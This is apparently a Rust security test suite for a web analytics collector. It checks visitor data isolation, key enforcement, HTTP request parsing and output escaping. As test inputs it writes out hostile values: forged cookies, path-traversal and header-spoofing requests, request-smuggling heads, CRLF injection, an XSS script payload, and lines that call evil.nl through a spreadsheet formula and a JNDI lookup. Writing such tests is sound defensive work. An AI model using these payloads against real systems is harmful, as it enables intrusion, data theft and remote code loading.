//! No answer to one visitor holds anything of another, whoever they say to be and however they ask;
//! and nothing that is sent is taken for something else where it is stored and shown.

use serde_json::Value;

use crate::client::{Answer, Request, exchange, get, post};
use crate::hostile::no_member;
use crate::server::{Collector, Options, page};

const VISITORS: usize = 24;

fn name(visitor: usize) -> String {
    format!("visitor-{visitor:02}")
}

/// What nobody but this visitor has read, searched, is called and is told.
fn secrets(visitor: usize) -> [String; 4] {
    ["path", "search", "trait", "topic"].map(|kind| format!("{kind}-of-{visitor:02}-only"))
}

/// Makes a visitor known. The cookie is its browser's.
async fn arrive(collector: &Collector, visitor: usize) -> String {
    let [path, search, secret, topic] = secrets(visitor);
    let who = name(visitor);
    let view = page(&who, &format!("{who}-1"), &format!("/{path}/"), 9);
    let view = view.replacen(
        r#""properties":{"#,
        &format!(r#""properties":{{"topics":["{topic}"],"#),
        1,
    );
    let at = |kind: &str, more: &str| {
        page(&who, &format!("{who}-{kind}"), "/", 5)
            .replace(r#""type":"page""#, &format!(r#""type":"{kind}",{more}"#))
    };
    let messages = [
        view,
        at("track", r#""event":"Site Searched""#)
            .replace(r#""path":"/""#, &format!(r#""query":"{search}""#)),
        at("identify", &format!(r#""traits":{{"name":"{secret}"}}"#)),
    ];
    let claim = format!("claim-of-{who}-0123456789");
    let answer = collector.claim(&claim, &messages).await;
    assert_eq!(answer.json()["accepted"], 3, "{}", answer.text());
    answer.cookie().unwrap()
}

/// Everything that anybody can ask, naming a victim wherever something could be named.
fn questions(victim: &str, cookie: &str) -> Vec<Request> {
    let mut requests = Vec::new();
    for path in [
        format!("/v1/me?anonymousId={victim}&visitor={victim}&id={victim}&userId={victim}"),
        format!("/v1/me?fg_visitor={victim}"),
        format!("/v1/decide?slot=hero&anonymousId={victim}&userId={victim}"),
        format!("/v1/preview?token={victim}"),
        format!("/v1/model?anonymousId={victim}"),
        format!("/v1/projects/k/settings?anonymousId={victim}"),
        format!("/v1/pixel.gif?writeKey=k&anonymousId={victim}&type=page"),
        format!("/v1/click?writeKey=k&anonymousId={victim}&to=https%3A%2F%2Fwww.example.nl%2F"),
        format!("/v1/me/{victim}"),
        format!("/v1/profiles/{victim}"),
        format!("/admin/v1/profiles/{victim}"),
        format!("/admin/v1/profiles/{victim}/timeline"),
        format!("/v1/../admin/v1/profiles/{victim}"),
        format!("/v1/%2e%2e/admin/v1/profiles/{victim}"),
        format!("//admin/v1/profiles/{victim}"),
        format!("/admin/v1//profiles/{victim}"),
        "/admin/v1/profiles".to_owned(),
        "/admin/v1/refused".to_owned(),
        "/admin/v1/segments".to_owned(),
        "/metrics".to_owned(),
        "/fg.js".to_owned(),
        "/healthz".to_owned(),
        "/".to_owned(),
    ] {
        let request = get(&path).header("Cookie", cookie);
        requests.push(request.clone());
        // Nor by headers that others take for a name.
        requests.push(
            request
                .header("X-Forwarded-Host", victim)
                .header("X-Visitor-Id", victim)
                .header("X-Original-URL", "/admin/v1/profiles")
                .header("Authorization", &format!("Bearer {victim}")),
        );
    }
    let mac = cookie.rsplit_once('.').unwrap().1;
    for forged in [
        format!("fg_visitor={victim}"),
        format!("fg_visitor={victim}."),
        format!("fg_visitor={victim}.{mac}"),
        format!("fg_visitor={victim}.{mac}; {cookie}"),
        format!("{cookie}; fg_visitor={victim}.{mac}"),
        format!("fg_visitor={victim}%00.{mac}"),
        format!("FG_VISITOR={victim}.{mac}"),
    ] {
        requests.push(get("/v1/me").header("Cookie", &forged));
    }
    for (path, body) in [
        (
            "/v1/page",
            format!(r#"{{"writeKey":"k","anonymousId":"{victim}"}}"#),
        ),
        (
            "/v1/batch",
            format!(
                r#"{{"writeKey":"k","claim":"claim-of-somebody-else","batch":[{{"type":"page","anonymousId":"{victim}"}}]}}"#
            ),
        ),
        (
            "/v1/batch",
            format!(r#"{{"writeKey":"k","batch":[{{"type":"pages","anonymousId":"{victim}"}}]}}"#),
        ),
        (
            "/v1/decide",
            format!(r#"{{"slots":["hero"],"anonymousId":"{victim}","userId":"{victim}"}}"#),
        ),
        (
            "/v1/forget",
            format!(
                r#"{{"writeKey":"k","anonymousId":"{victim}","claim":"claim-of-somebody-else"}}"#
            ),
        ),
        (
            "/v1/forget",
            format!(r#"{{"writeKey":"k","anonymousId":"{victim}"}}"#),
        ),
    ] {
        requests.push(post(path, body).header("Cookie", cookie));
    }
    requests
}

fn whole(answer: &Answer) -> String {
    let headers = answer
        .headers
        .iter()
        .map(|(name, value)| format!("{name}: {value}\n"));
    headers.collect::<String>() + &String::from_utf8_lossy(&answer.body)
}

#[tokio::test]
async fn nobody_learns_anything_of_anybody_else() {
    let collector = Collector::start().await;
    let mut cookies = Vec::new();
    for visitor in 0..VISITORS {
        cookies.push(arrive(&collector, visitor).await);
    }
    for (asking, cookie) in cookies.iter().enumerate() {
        let victim = name((asking * 7 + 5) % VISITORS);
        for (number, request) in questions(&victim, cookie).into_iter().enumerate() {
            let answer = collector.send(request).await;
            assert!(answer.status < 500, "{number}: {}", answer.text());
            let told = whole(&answer);
            for other in (0..VISITORS).filter(|other| *other != asking) {
                for secret in secrets(other) {
                    assert!(!told.contains(&secret), "{number} tells {secret}: {told}");
                }
            }
            // A cookie that is given is the asking browser's own, or for who was not known before.
            if let Some(given) = answer.cookie() {
                assert!(!given.contains(&victim), "{number} gives {given}");
            }
        }
    }
    // What each may know is its own, and nobody was erased.
    for (visitor, cookie) in cookies.iter().enumerate() {
        let me = collector.send(get("/v1/me").header("Cookie", cookie)).await;
        assert_eq!(me.json()["visitor"], name(visitor));
        let [_, _, _, topic] = secrets(visitor);
        assert!(me.text().contains(&topic), "{}", me.text());
        let profile = collector
            .admin(&format!("profiles/{}", name(visitor)))
            .await;
        assert_eq!(profile.status, 200);
    }
}

#[tokio::test]
async fn the_key_of_another_site_opens_nothing() {
    let collector = Collector::start().await;
    let message = page("a", "1", "/", 1);
    let single = message.replacen('{', r#"{"writeKey":"other","#, 1);
    let basic = "Basic b3RoZXI6";
    for (request, status) in [
        (
            post(
                "/v1/batch",
                format!(r#"{{"writeKey":"other","batch":[{message},5]}}"#),
            ),
            401,
        ),
        // What the body says goes before the header.
        (
            post(
                "/v1/batch",
                format!(r#"{{"writeKey":"other","batch":[{message}]}}"#),
            )
            .header("Authorization", "Basic azo="),
            401,
        ),
        (
            post("/v1/batch", format!(r#"{{"batch":[{message}]}}"#)).header("Authorization", basic),
            401,
        ),
        (post("/v1/page", single), 401),
        (
            post("/v1/forget", r#"{"writeKey":"other","anonymousId":"a"}"#),
            401,
        ),
        (get("/v1/pixel.gif?writeKey=other&anonymousId=a"), 401),
        (
            get("/v1/pixel/page?data=eyJ3cml0ZUtleSI6Im90aGVyIiwiYW5vbnltb3VzSWQiOiJhIn0="),
            401,
        ),
        (
            get("/v1/click?writeKey=other&anonymousId=a&to=https%3A%2F%2Fwww.example.nl"),
            302,
        ),
        (get("/v1/projects/other/settings"), 404),
    ] {
        let answer = collector.send(request).await;
        assert_eq!((answer.status, answer.cookie()), (status, None));
    }
    collector.batch(&[page("b", "1", "/", 1)]).await;
    let profiles = collector.admin("profiles").await.json();
    assert_eq!(profiles["profiles"].as_array().unwrap().len(), 1);
    assert_eq!(
        collector.admin("refused").await.json()["refused"],
        serde_json::json!([])
    );
}

/// Requests that say one thing to one program and another to the next.
#[tokio::test]
async fn nothing_is_injected_by_the_head_of_a_request() {
    let collector = Collector::start_with(Options {
        config: "[site]\nwrite_key = \"k\"\nallowed_origins = [\"https://www.example.nl\"]"
            .to_owned(),
        ..Options::default()
    })
    .await;
    let end = "Connection: close\r\n\r\n";
    for (head, statuses) in [
        (
            "GET /v1/me HTTP/1.1\r\nHost: a\r\nCookie: a\0b\r\n",
            &[400][..],
        ),
        ("GET /v1/me HTTP/1.1\r\nHost: a\r\nX : 1\r\n", &[400]),
        (
            "GET /v1/me HTTP/1.1\r\nHost: a\r\nX: 1\r\n folded\r\n",
            &[400],
        ),
        ("GET /v1/me\0 HTTP/1.1\r\nHost: a\r\n", &[400]),
        ("GET /v1/me\x1b[2J HTTP/1.1\r\nHost: a\r\n", &[400]),
        ("GET http://evil.nl/v1/me HTTP/1.1\r\nHost: a\r\n", &[200]),
        (
            "GET /v1/projects/k/settings HTTP/1.1\r\nHost: a/evil.nl\r\n",
            &[400],
        ),
        (
            "GET /v1/projects/k/settings HTTP/1.1\r\nHost: a@evil.nl\r\n",
            &[400],
        ),
        ("GET /v1/projects/k/settings HTTP/1.1\r\n", &[400]),
        // Neither the host that is asked nor the one that a header names is where a link may lead.
        (
            "GET /v1/click?to=https://evil.nl/ HTTP/1.1\r\nHost: a\r\nX-Forwarded-Host: evil.nl\r\n",
            &[400],
        ),
        (
            "GET /v1/click?to=https://evil.nl/ HTTP/1.1\r\nHost: evil.nl@a\r\n",
            &[400],
        ),
        (
            "GET /v1/click?to=https://www.example.nl/%250d%250aX-Evil:1&utm_source=%0d%0aX-Evil:1 HTTP/1.1\r\nHost: a\r\n",
            &[302],
        ),
        // Two lengths, or a length and chunks, are two requests to whoever reads the other one.
        (
            "POST /v1/batch HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\nContent-Length: 3\r\n",
            &[400],
        ),
        (
            "POST /v1/batch HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n",
            &[400],
        ),
        (
            "POST /v1/batch HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: x\r\n",
            &[400],
        ),
    ] {
        let answer = exchange(collector.address, format!("{head}{end}").as_bytes()).await;
        assert!(
            statuses.contains(&answer.status),
            "{} for {head:?}",
            answer.status
        );
        for (name, value) in &answer.headers {
            assert!(!name.contains("evil"), "{head:?} gives {name}");
            assert!(
                !value.bytes().any(|byte| byte < b' ' || byte == 0x7f),
                "{value:?}"
            );
        }
        assert!(!whole(&answer).contains("//evil.nl"), "{}", whole(&answer));
    }
}

/// What is sent comes back from the owner's addresses as data, in texts that end nowhere early.
#[tokio::test]
async fn what_is_stored_stays_a_text() {
    let collector = Collector::start().await;
    let hostile = [
        "</script><script>alert(1)</script>",
        "\",\"admin\":true,\"x\":\"",
        "\\\",\\\"admin\\\":true",
        "line\r\nSet-Cookie: a=b",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        "\u{2028}\u{2029}\u{202e}",
        "=HYPERLINK(\"http://evil.nl\")",
        "\u{0}\u{7f}",
        "${jndi:ldap://evil.nl}",
    ];
    for (number, text) in hostile.iter().enumerate() {
        let text = Value::from(*text).to_string();
        let view = page("a", &number.to_string(), "/", 5).replacen(
            r#""properties":{"path":"/""#,
            &format!(
                r#""properties":{{"path":{text},"title":{text},"topics":[{text}],{text}:{text}"#
            ),
            1,
        );
        let wrong =
            format!(r#"{{"type":{text},"messageId":{text},"anonymousId":"a",{text}:{text}}}"#);
        let search = page("a", &format!("s{number}"), "/", 4).replace(
            r#""type":"page""#,
            &format!(r#""type":"track","event":{text}"#),
        );
        let traits = page("a", &format!("t{number}"), "/", 3).replace(
            r#""type":"page""#,
            &format!(r#""type":"identify","traits":{{{text}:{text}}}"#),
        );
        let answer = collector.batch(&[view, wrong, search, traits]).await;
        assert_eq!(answer.json()["accepted"], 3, "{}", answer.text());
    }
    for path in [
        "profiles",
        "profiles?text=%3C/script%3E",
        "profiles/a",
        "profiles/a/timeline",
        "profiles/a/why",
        "profiles/a/why?segment=%3Cscript%3E%22%0d%0a",
        "segments",
        "refused",
        "refused?reason=%3Cscript%3E",
        "profiles?cursor=%3Cscript%3E%0d%0a",
    ] {
        let answer = collector.admin(path).await;
        assert_eq!(
            answer.header("content-type"),
            Some("application/json"),
            "{path}"
        );
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        let plain = |one: char| one >= ' ' && one != '\u{7f}' && one != '<' && one != '>';
        assert!(
            answer.text().chars().all(plain),
            "{path}: {}",
            answer.text()
        );
        no_member(&answer.json());
    }
}
